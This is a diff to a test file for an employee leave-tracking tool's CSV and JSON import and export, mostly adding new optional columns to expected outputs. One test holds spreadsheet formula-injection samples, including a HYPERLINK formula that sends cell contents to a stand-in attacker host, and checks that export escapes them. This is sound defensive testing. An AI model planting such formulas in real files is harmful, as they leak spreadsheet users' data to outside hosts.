@@ -194,8 +194,8 @@ async def test_every_problem_in_a_json_file_is_reported_and_nothing_written(
         f'{j}:employees[1] (J2): leave_taken[3]: must be an object like {{"date": "2026-03-02", "days": 0.5}}',
         f"{j}:employees[2] (J1): employee_id: duplicate employee_id J1 (also at {j}:employees[0] (J1))",
         f"{j}:employees[3]: entry: must be an object",
-        f"{j}:employees[4] (J4): extra: unknown key (expected one of active, annual_leave, email, employee_id, "
-        "hire_date, leave_taken, name, slack_user_id)",
+        f"{j}:employees[4] (J4): extra: unknown key (expected one of active, annual_leave, below_80, email, "
+        "employee_id, end_date, hire_date, leave_taken, name, slack_user_id, weekly_hours)",
         f'{j}:employees[4] (J4): annual_leave.20x6: "20x6" is not a year YYYY',
         f'{j}:employees[4] (J4): annual_leave.2027: must be an object like {{"granted": 15, "used": 7.5}}',
         f"{j}:employees[4] (J4): annual_leave.2028.granted: must be a number",
@@ -250,7 +250,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "id,name\nE1,x\n"},
         [
             "{d}/a.csv:1: header: columns id,name are none of the accepted sets: employees: employee_id,name,email,"
-            "slack_user_id,hire_date (+ optional active); grants: employee_id,year,granted (+ optional "
+            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: employee_id,year,granted (+ optional "
             "opening_used,allow_negative); leave: employee_id,date,days,type,note"
         ],
     ),
@@ -258,7 +258,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "employee_id,year,granted,year\n"},
         [
             "{d}/a.csv:1: header: columns employee_id,year,granted,year are none of the accepted sets: "
-            "employees: employee_id,name,email,slack_user_id,hire_date (+ optional active); grants: "
+            "employees: employee_id,name,email,slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: "
             "employee_id,year,granted (+ optional opening_used,allow_negative); leave: employee_id,date,days,"
             "type,note"
         ],
@@ -267,7 +267,7 @@ REFUSALS: list[tuple[dict[str, str | bytes], list[str]]] = [
         {"a.csv": "\n"},
         [
             "{d}/a.csv:1: header: the file is empty; expected employees: employee_id,name,email,"
-            "slack_user_id,hire_date (+ optional active); grants: employee_id,year,granted "
+            "slack_user_id,hire_date (+ optional active,end_date,weekly_hours,below_80); grants: employee_id,year,granted "
             "(+ optional opening_used,allow_negative); leave: employee_id,date,days,type,note"
         ],
     ),
@@ -405,6 +405,7 @@ async def test_export_import_export_is_lossless(database: ScratchDatabase, tmp_p
         tmp_path,
         "extra.json",
         '{"employees": [{"employee_id": "X-1_a", "name": " 공백 ", "email": "X@x.kr", "hire_date": "2019-12-31",'
+        ' "end_date": "2027-01-31", "weekly_hours": 22.50, "below_80": [3, 1],'
         ' "active": false, "annual_leave": {"2026": {"granted": 0.5, "used": 0, "allow_negative": true}},'
         ' "leave_taken": [{"date": "2026-12-31", "days": 2.50, "note": "줄\\n바꿈, \\"따옴표\\""},'
         ' {"date": "2026-12-31", "days": 366, "type": "unpaid_leave"}]}]}',
@@ -461,7 +462,7 @@ async def store_formula_like_text(engine: AsyncEngine, directory: Path) -> None:
     people = write(
         directory,
         "people.csv",
-        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true") for row in FORMULA_EMPLOYEES)]),
+        csv_text([EMPLOYEE_COLUMNS, *((*row, "", "", "true", "", "", "") for row in FORMULA_EMPLOYEES)]),
     )
     ids = [row[0] for row in FORMULA_EMPLOYEES] + [row[0] for row in WRITTEN_BY_OTHER_TOOLS]
     grants = write(
@@ -575,13 +576,14 @@ async def test_csv_export_writes_no_cell_a_spreadsheet_would_run(
     ] == []
     employees_csv = files["employees.csv"].split("\n")  # a cell holds a \r
     assert (
-        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true' in employees_csv
+        'F1,"\'=HYPERLINK(""http://evil.example/""&A1,""click"")",\'=f1@evil.example,,,true,,,'
+        in employees_csv
     )
-    assert "F5,''Ollie,''ollie@example.com,,,true" in employees_csv
-    assert "F8,-1.5,f8@example.com,,,true" in employees_csv
-    assert "'-cmd,'-2+3,'-f3@example.com,,,true" in employees_csv
-    assert "F6,'\t=1+1,'\tf6@example.com,,,true" in employees_csv
-    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true' in employees_csv
+    assert "F5,''Ollie,''ollie@example.com,,,true,,," in employees_csv
+    assert "F8,-1.5,f8@example.com,,,true,,," in employees_csv
+    assert "'-cmd,'-2+3,'-f3@example.com,,,true,,," in employees_csv
+    assert "F6,'\t=1+1,'\tf6@example.com,,,true,,," in employees_csv
+    assert 'F7,"\'\r=1+1","\'\rf7@example.com",,,true,,,' in employees_csv
     assert files["grants.csv"].splitlines()[1:] == [
         "'-cmd,2026,1,0,false",
         "F1,2025,1,-1.5,true",
@@ -628,7 +630,10 @@ async def test_a_hand_written_leading_quote_is_kept(database: ScratchDatabase, t
         ("'-1.5", "-1.5", "-1.5"),
         ("'\t@A1", "\t@A1", "'\t@A1"),
     ]
-    rows = [(f"E{i}", written, f"e{i}@x.kr", "", "", "true") for i, (written, _, _) in enumerate(cases)]
+    rows = [
+        (f"E{i}", written, f"e{i}@x.kr", "", "", "true", "", "", "")
+        for i, (written, _, _) in enumerate(cases)
+    ]
     await import_files(database.engine, [write(tmp_path, "people.csv", csv_text([EMPLOYEE_COLUMNS, *rows]))])
     people, _, _ = await stored_rows(database.engine)
     assert [row[1] for row in people] == [stored for _, stored, _ in cases]
